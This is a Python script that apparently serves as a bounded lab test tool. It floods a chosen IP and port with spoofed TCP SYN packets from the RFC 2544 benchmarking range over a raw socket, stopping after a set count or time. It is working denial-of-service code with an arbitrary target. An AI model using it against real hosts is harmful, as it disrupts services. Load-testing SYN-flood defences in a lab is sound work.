# SPDX-License-Identifier: (GPL-2.0-only OR BSD-2-Clause)
"""Bounded spoofed SYN flood for the lab: SYNs from random sources in the
benchmarking range 198.18.0.0/15 (RFC 2544), sent as prebuilt frames from an
AF_PACKET socket. Stops after COUNT frames or SECONDS, whichever is first.

  flood.py IFACE DST_MAC DST_IP DPORT COUNT SECONDS  -> "ready", then JSON
                                                      {sent, seconds}
SIGTERM ends it early (still printing the JSON line).
"""
import json
import random
import signal
import socket
import sys
import time

from scapy.all import IP, TCP, Ether, raw  # noqa: E402


def frames(dst_mac, src_mac, dst_ip, dport, n=4096):
    rnd = random.Random(1)
    out = []
    for _ in range(n):
        src = "198.%d.%d.%d" % (18 + rnd.randrange(2), rnd.randrange(256), rnd.randrange(1, 255))
        f = (Ether(dst=dst_mac, src=src_mac) / IP(src=src, dst=dst_ip, ttl=64) /
             TCP(sport=rnd.randrange(1024, 65535), dport=dport, flags="S",
                 seq=rnd.randrange(1 << 32), window=64240,
                 options=[("MSS", 1460), ("SAckOK", b""), ("Timestamp", (rnd.randrange(1 << 32), 0)),
                          ("NOP", None), ("WScale", 7)]))
        out.append(raw(f))
    return out


def main():
    iface, dst_mac, dst_ip, dport, count, seconds = sys.argv[1:7]
    count, seconds = int(count), float(seconds)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    s.bind((iface, 0))
    src_mac = ":".join("%02x" % b for b in s.getsockname()[4][:6])
    pkts = frames(dst_mac, src_mac, dst_ip, int(dport))
    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
    print("ready", flush=True)
    sent, t0 = 0, time.monotonic()
    deadline = t0 + seconds
    while sent < count and time.monotonic() < deadline and not stop:
        for f in pkts[:min(len(pkts), count - sent)]:
            try:
                s.send(f)
                sent += 1
            except BlockingIOError:
                pass
    print(json.dumps({"sent": sent, "seconds": time.monotonic() - t0}))


if __name__ == "__main__":
    main()
